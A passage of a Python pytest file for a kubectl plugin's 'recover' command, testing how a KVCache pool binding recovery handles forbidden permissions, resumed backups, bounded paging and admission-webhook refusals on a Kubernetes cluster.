    theirs, p = _plan(cluster, ns, kubeconfig=kubeconfig, cwd=tmp_path)
    assert theirs["steps"] == mine["steps"]
    unchecked = theirs["referrers"]["unchecked"]
    for kind, resource in (("Services", "services"), ("HorizontalPodAutoscalers", "horizontalpodautoscalers.autoscaling"),
                           ("PodDisruptionBudgets", "poddisruptionbudgets.policy"),
                           ("Ingresses", "ingresses.networking.k8s.io")):
        assert f"could not check {kind}: forbidden (list {resource} in namespace {ns})" in unchecked, unchecked
    assert theirs["referrers"]["objects"] == []
    text = plugin(cluster, "recover", "sgl-fp8", "-n", ns, kubeconfig=kubeconfig, cwd=tmp_path)
    assert text.returncode == 0 and "could not check Services: forbidden" in text.stdout
    assert "some could not be checked" in text.stdout


def _folders(path):
    return sorted(n for n in os.listdir(path) if n.startswith("kvcache-recover-"))


def test_a_resumed_recovery_writes_into_the_same_backup_folder(scene, tmp_path):
    """The first run stops (no capacity for alpha's replacement); the rerun, without --backup-dir,
    finishes into the folder the first one made (named by the old Binding's uid, as the plan says).
    A different plan.json planted there is kept; this recovery's plan is written beside it."""
    cluster, ns = scene
    uid = cluster.request("GET", f"{API}/namespaces/{ns}/kvcachepoolbindings/sgl-fp8")[1]["metadata"]["uid"]
    folder = f"kvcache-recover-{ns}-sgl-fp8-{uid}"
    plan, _ = _plan(cluster, ns, cwd=tmp_path)
    assert plan["backups"] == {"directory": folder, "directorySource": "the old Binding's uid",
                               "record": f"ConfigMap {ns}/kvcache-recover-sgl-fp8"}
    (tmp_path / folder).mkdir()
    (tmp_path / folder / "plan.json").write_text('{"kind": "RecoveryPlan", "note": "not this one"}')
    with Operator(cluster, ns) as op:
        op.hold.add("alpha-fp8-e4m3")
        first = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "2s", cwd=tmp_path)
        assert first.returncode == 2, first.stderr
        assert "timed out" in one_error_line(first.stderr)
        assert f"{folder}/plan.json holds other content: kept; this one is written to {folder}/plan.2.json" \
            in first.stderr
        assert f"Backups go to {folder}" in first.stdout
        assert f"Backups so far: folder {folder} and ConfigMap {ns}/kvcache-recover-sgl-fp8" in first.stderr
        after_first = set(os.listdir(tmp_path / folder))
        op.hold.clear()
        second = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s", cwd=tmp_path)
        assert second.returncode == 0, second.stderr + second.stdout
    assert op.errors == []
    assert _folders(tmp_path) == [folder]
    files = set(os.listdir(tmp_path / folder))
    assert after_first < files
    assert json.loads((tmp_path / folder / "plan.json").read_text()) == {"kind": "RecoveryPlan",
                                                                          "note": "not this one"}
    kinds = {n.split(".")[0] for n in files}
    assert {"ModelDeployment", "KVCachePoolBinding", "Setting", "Deployment"} <= kinds
    assert set(mds(cluster, ns)) == {"alpha-fp8-e4m3", "beta-fp8-e4m3", "other"}
    assert setting_value(cluster) == "true"


def test_what_is_read_of_each_kind_is_bounded_and_the_rest_said(scene, tmp_path, monkeypatch):
    """At most REFERRER_LIMIT objects of a kind are kept (paged: --chunk-size 1 makes every object
    a page of its own); the ones past it are counted and said, not silently dropped."""
    from kubectl_kvcache.load import recovery

    cluster, ns = scene
    cluster.apply([{"apiVersion": "v1", "kind": "Service", "metadata": {"name": f"s{i}", "namespace": ns},
                    "spec": {"selector": {INSTANCE: "alpha"}, "ports": [{"port": 80}]}} for i in range(3)],
                  with_status=False)
    monkeypatch.setattr(recovery, "REFERRER_LIMIT", 2)
    monkeypatch.chdir(tmp_path)
    code, out, err = in_process(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", "--chunk-size", "1")
    assert code == 0, err
    plan = json.loads(out)
    assert len([f for f in plan["referrers"]["objects"] if f["kind"] == "Service" and f["deployment"] == "alpha"]) == 2
    assert f"could not check 1 of the 3 Services of namespace {ns}: only the first 2 are read" in \
        plan["referrers"]["unchecked"]


# -- the operator's Binding webhook, at plan time ----------------------------------------------

@pytest.mark.parametrize("pool, field, words", [
    # the pool's total shrank below the old Binding's ceiling (an update that leaves a ceiling where
    # it was is not re-checked; a create is): validateKVCachePoolBindingCeilingFitsPool
    (dict(total="128Gi"), "spec.quotaCeiling", "must not exceed the pool's own ceiling of 128Gi"),
    # the master holds no tenant ledger: the new domain beside the old one is refused
    # (validateKVCachePoolBindingDomainIsSeparable)
    (dict(ledger="MultiTenancyDisabled"), "spec.domain.name", "holds no tenant ledger"),
    # the pool is gone (validateKVCachePoolBindingCeilingFitsPool: NotFound)
    (None, "spec.poolRef.name", "Not found"),
], ids=["ceiling-past-the-pool", "ledgerless-master", "pool-gone"])
def test_a_recovery_the_binding_webhook_refuses_changes_nothing(scene, tmp_path, pool, field, words):
    cluster, ns = scene
    name = f"pool-{ns}"
    if pool is None:
        cluster.request("DELETE", f"{API}/kvcachepools/{name}")
    else:
        cluster.apply(_pool(name, **pool))
    before = {k: (v["metadata"]["resourceVersion"]) for k, v in mds(cluster, ns).items()}
    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
    assert p.returncode == 2, p.stderr
    line = one_error_line(p.stderr)
    assert f"KVCachePoolBinding {ns}/sgl-fp8-e4m3" in line and field in line and words in line, line
    assert "Traceback" not in p.stderr
    # refused before any write: the Setting still on (and never patched), no Binding, no record, no backup
    setting = cluster.request("GET", SETTING)[1]
    assert setting["spec"]["value"] == "true"
    assert "kvcache.gpustack.ai/turned-off-by-recovery" not in (setting["metadata"].get("annotations") or {})
    assert binding(cluster, ns, "sgl-fp8-e4m3") is None and recovery_record(cluster, ns) is None
    assert {k: v["metadata"]["resourceVersion"] for k, v in mds(cluster, ns).items()} == before
    assert not [f for f in os.listdir(tmp_path) if f.startswith("kvcache-recover-")]
    # the plan alone is refused the same way (a reviewer sees why before anyone applies it)
    q = plugin(cluster, "recover", "sgl-fp8", "-n", ns, cwd=tmp_path)
    assert q.returncode == 2 and one_error_line(q.stderr) == line


def test_what_only_the_server_refuses_is_refused_by_its_dry_run_before_the_setting_is_turned_off(scene, tmp_path):
    """A rule the plan cannot see (here a ValidatingAdmissionPolicy the API server runs on the
    Binding's create, standing in for a webhook of the cluster): the server dry run of every write
    comes before the first change, so the recovery stops with the Setting untouched."""
    cluster, ns = scene
    policy = f"refuse-{ns}"
    vap = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies"
    vapb = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings"
    cluster.request_ok("POST", vap, {
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy",
        "metadata": {"name": policy},
        "spec": {"failurePolicy": "Fail", "matchConstraints": {"resourceRules": [{
            "apiGroups": [GROUP], "apiVersions": ["*"], "operations": ["CREATE"],
            "resources": ["kvcachepoolbindings"]}]},
            "validations": [{"expression": "object.spec.domain.name == 'sgl'",
                             "message": "played webhook: this cluster admits no new reuse domain"}]}})
    cluster.request_ok("POST", vapb, {
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicyBinding",
        "metadata": {"name": policy},
        "spec": {"policyName": policy, "validationActions": ["Deny"],
                 "matchResources": {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": ns}}}}})
    try:
        probe = _binding(ns, "probe", f"pool-{ns}", "other", "bfloat16")
        deadline = time.monotonic() + 30
        while cluster.request("POST", f"{API}/namespaces/{ns}/kvcachepoolbindings?dryRun=All", probe)[0] < 400:
            assert time.monotonic() < deadline, "the policy never took effect"
            time.sleep(0.2)
        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
        assert p.returncode == 2, p.stderr
        line = one_error_line(p.stderr)
        assert "the server dry run refused step" in line and "played webhook" in line and "nothing was changed" in line
        assert setting_value(cluster) == "true" and binding(cluster, ns, "sgl-fp8-e4m3") is None
        assert recovery_record(cluster, ns) is None
    finally:
        cluster.request("DELETE", f"{vapb}/{policy}")
        cluster.request("DELETE", f"{vap}/{policy}")
